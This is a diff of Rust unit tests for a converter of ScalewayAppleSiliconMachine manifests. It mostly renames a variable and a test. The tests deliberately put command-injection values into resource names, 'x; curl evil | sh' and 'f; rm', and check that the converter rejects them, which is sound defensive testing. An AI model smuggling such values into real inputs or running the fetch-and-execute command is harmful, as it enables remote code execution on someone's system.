@@ -491,8 +491,8 @@ metadata: {name: something, namespace: ci}
     #[test]
     fn a_name_that_would_run_as_a_command_is_refused() {
         let owner = OBJECTS.replace("name: macs-x1", "name: 'x; curl evil | sh'");
-        let told = convert(&owner, None, "system").unwrap_err().to_string();
-        assert!(told.contains("metadata.ownerReferences.name: \"x; curl evil | sh\""), "{told}");
+        let error = convert(&owner, None, "system").unwrap_err().to_string();
+        assert!(error.contains("metadata.ownerReferences.name: \"x; curl evil | sh\""), "{error}");
     }
 
     #[test]
@@ -517,7 +517,7 @@ metadata: {name: something, namespace: ci}
     }
 
     #[test]
-    fn all_that_cannot_be_converted_is_told_at_once() {
+    fn all_that_cannot_be_converted_is_reported_at_once() {
         let machine = |name: &str, spec: &str| {
             format!("kind: ScalewayAppleSiliconMachine\nmetadata: {{name: {name}, namespace: ci}}\nspec: {spec}\n---\n")
         };
@@ -527,7 +527,7 @@ metadata: {name: something, namespace: ci}
             + &machine("d", "{providerID: 'scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111'}")
             + &machine("e", "{providerID: 'scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111'}")
             + &machine("'f; rm'", "{}");
-        let told = convert(&text, None, "system").unwrap_err().to_string();
+        let error = convert(&text, None, "system").unwrap_err().to_string();
         for said in [
             "ci/a: spec.providerID: \"aws:///i-1\"",
             "ci/b: spec.providerID",
@@ -535,7 +535,7 @@ metadata: {name: something, namespace: ci}
             "ci/e: ci/d has the host",
             "metadata.name: \"f; rm\"",
         ] {
-            assert!(told.contains(said), "{said} is not in\n{told}");
+            assert!(error.contains(said), "{said} is not in\n{error}");
         }
         assert!(
             convert("kind: Pod\n", None, "system").unwrap_err().to_string().contains("ScalewayAppleSiliconMachine")
